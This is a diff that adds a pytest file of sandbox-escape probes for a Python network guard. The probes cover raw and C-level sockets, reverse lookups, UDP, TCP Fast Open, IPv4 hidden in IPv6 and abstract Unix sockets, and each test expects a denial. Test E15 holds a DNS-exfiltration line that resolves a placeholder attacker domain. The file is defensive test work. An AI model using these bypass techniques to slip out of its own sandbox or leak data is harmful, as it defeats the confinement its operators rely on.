@@ -1,0 +1,167 @@
+"""Group E of attacks.md: network, exfiltration and DNS. A pong server
+listens on 127.0.0.1 (the session's tcp_port) and each rule file allows
+exactly that port; every attack aims elsewhere, or by a route that should
+not be judged as allowed. Under landlock the kernel also confines the TCP
+ports of native code (group N); here the guard refuses first."""
+
+import socket
+
+import pytest
+
+from harness import attack
+
+ERR = "RuleSocketConnectionRefusedError"
+SECRET = "secret-data.attacker.invalid"
+
+PRELUDE = '''
+import socket, _socket, sys
+P = int(sys.argv[1])
+Q = P + 1 if P < 65535 else P - 1
+'''
+
+
+def implicit(ip, port):
+    return (f"Guard network connection to '[{ip}]:{port}' DENIED by "
+            "implicit default policy.")
+
+
+def other(p):
+    return p + 1 if p < 65535 else p - 1
+
+
+def allow(p):
+    return f"python-import=*\nnet=ALLOW|TCP|127.0.0.1|{p}|OUT\n"
+
+
+def probes(d):
+    """Each body gets P (the allowed port) and Q (another one)."""
+    return {k: PRELUDE + v for k, v in d.items()}
+
+
+@attack("E1", "connect outside net= (raw socket, create_connection)")
+def test_E1(case, judge, tcp_port):
+    out = case.run(allow(tcp_port), probes({
+        "allowed": "s = socket.create_connection(('127.0.0.1', P), 5)\n"
+                   "s.sendall(b'ping')\nreturn s.recv(4)",
+        "raw": "socket.socket().connect(('127.0.0.1', Q))",
+        "helper": "socket.create_connection(('127.0.0.1', Q), 5)",
+        "address": "socket.socket().connect(('127.0.0.2', P))",
+    }), args=[tcp_port])
+    # the negative control: the rule's own port is reachable
+    assert out["allowed"].escaped and out["allowed"].msg == "b'pong'", \
+        out["allowed"]
+    q = other(tcp_port)
+    judge.python(out["raw"], ERR, implicit("127.0.0.1", q))
+    judge.python(out["helper"], ERR, implicit("127.0.0.1", q))
+    judge.python(out["address"], ERR, implicit("127.0.0.2", tcp_port))
+
+
+@attack("E3", "The C base class _socket.socket")
+def test_E3(case, judge, tcp_port):
+    out = case.run(allow(tcp_port), probes({
+        "c_class": "_socket.socket().connect(('127.0.0.1', Q))",
+        "mro": "socket.socket.__mro__[1]().connect(('127.0.0.1', Q))",
+    }), args=[tcp_port])
+    q = other(tcp_port)
+    judge.python(out["c_class"], ERR, implicit("127.0.0.1", q))
+    judge.python(out["mro"], ERR, implicit("127.0.0.1", q))
+
+
+@attack("E5", "Reverse lookup (gethostbyaddr, getnameinfo)")
+def test_E5(case, judge, tcp_port):
+    out = case.run(allow(tcp_port), probes({
+        "byaddr": "return socket.gethostbyaddr('192.0.2.1')",
+        "nameinfo": "return socket.getnameinfo(('192.0.2.1', 80), 0)",
+        "c_twin": "return _socket.gethostbyaddr('192.0.2.1')",
+    }), args=[tcp_port])
+    msg = ("Guard reverse lookup of '192.0.2.1' DENIED: no net= rule "
+           "allows this address.")
+    for label in ("byaddr", "nameinfo", "c_twin"):
+        judge.python(out[label], ERR, msg)
+
+
+@attack("E7", "UDP sendmsg carrying an address")
+def test_E7(case, judge, tcp_port):
+    out = case.run(allow(tcp_port), probes({
+        "sendmsg": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                   "s.sendmsg([b'x'], [], 0, ('127.0.0.1', P))",
+        "sendto": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                  "s.sendto(b'x', ('127.0.0.1', P))",
+    }), args=[tcp_port])
+    # the rule allows TCP to P, not UDP
+    judge.python(out["sendmsg"], ERR, implicit("127.0.0.1", tcp_port))
+    judge.python(out["sendto"], ERR, implicit("127.0.0.1", tcp_port))
+
+
+@attack("E8", "TCP Fast Open (sendto with MSG_FASTOPEN connects)")
+def test_E8(case, judge, tcp_port):
+    out = case.run(allow(tcp_port), probes({
+        "tfo": "s = socket.socket()\n"
+               "return s.sendto(b'x', socket.MSG_FASTOPEN, "
+               "('127.0.0.1', Q))",
+    }), args=[tcp_port])
+    judge.python(out["tfo"], ERR, implicit("127.0.0.1", other(tcp_port)))
+
+
+def _ipv6():
+    try:
+        with socket.socket(socket.AF_INET6) as s:
+            s.bind(("::1", 0))
+        return True
+    except OSError:
+        return False
+
+
+@pytest.mark.skipif(not _ipv6(), reason="no IPv6 loopback on this machine")
+@attack("E9", "IPv4 hidden in IPv6 (::ffff:, NAT64, IPv4-compatible)")
+def test_E9(case, judge, tcp_port):
+    deny = "net=DENY|TCP|127.0.0.1|*|OUT"
+    forms = ["::ffff:127.0.0.1", "::ffff:0:127.0.0.1", "::127.0.0.1",
+             "64:ff9b::127.0.0.1"]
+    out = case.run(f"python-import=*\nnet=ALLOW|TCP|*|*|OUT\n{deny}\n",
+                   probes({f"form{i}": f"socket.socket(socket.AF_INET6)"
+                           f".connect(({a!r}, P))"
+                           for i, a in enumerate(forms)}), args=[tcp_port])
+    for i, a in enumerate(forms):
+        shown = socket.inet_ntop(socket.AF_INET6,
+                                 socket.inet_pton(socket.AF_INET6, a))
+        judge.python(out[f"form{i}"], ERR,
+                     f"Guard network connection to [{shown}]:{tcp_port} "
+                     f"DENIED by rule '{deny}' from .py-sandboxes(3).")
+
+
+@attack("E10", "listen() without bind(): the kernel binds the wildcard")
+def test_E10(case, judge, tcp_port):
+    out = case.run("python-import=*\nnet=ALLOW|TCP|127.0.0.1|*|IN\n",
+                   probes({"listen": "socket.socket().listen()"}),
+                   args=[tcp_port])
+    judge.python(out["listen"], ERR, implicit("0.0.0.0", 0))
+
+
+@attack("E12", "Abstract AF_UNIX addresses")
+def test_E12(case, judge, tcp_port):
+    out = case.run("python-import=*\nnet=ALLOW|*|*|*|*\n", probes({
+        "connect": "socket.socket(socket.AF_UNIX).connect('\\0pysb-x')",
+        "sendto": "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)"
+                  ".sendto(b'x', b'\\0pysb-x')",
+    }), args=[tcp_port])
+    why = "DENIED: abstract AF_UNIX addresses cannot be evaluated by a rule."
+    judge.python(out["connect"], ERR,
+                 f"Guard connect to '\\x00pysb-x' {why}")
+    judge.python(out["sendto"], ERR,
+                 f"Guard sendto to b'\\x00pysb-x' {why}")
+
+
+@attack("E15", "DNS exfiltration: resolve <secret>.attacker.tld")
+def test_E15(case, judge, tcp_port):
+    out = case.run(f"python-import=*\nnet=ALLOW|TCP|localhost|{tcp_port}|OUT"
+                   "\n", probes({
+                       "gai": f"return socket.getaddrinfo({SECRET!r}, 80)",
+                       "c_twin": f"return _socket.getaddrinfo({SECRET!r}, "
+                                 "80)",
+                       "byname": f"return socket.gethostbyname({SECRET!r})",
+                   }), args=[tcp_port])
+    msg = (f"Guard name resolution of '{SECRET}' DENIED: no net= rule can "
+           "allow it.")
+    for label in ("gai", "c_twin", "byname"):
+        judge.python(out[label], ERR, msg)
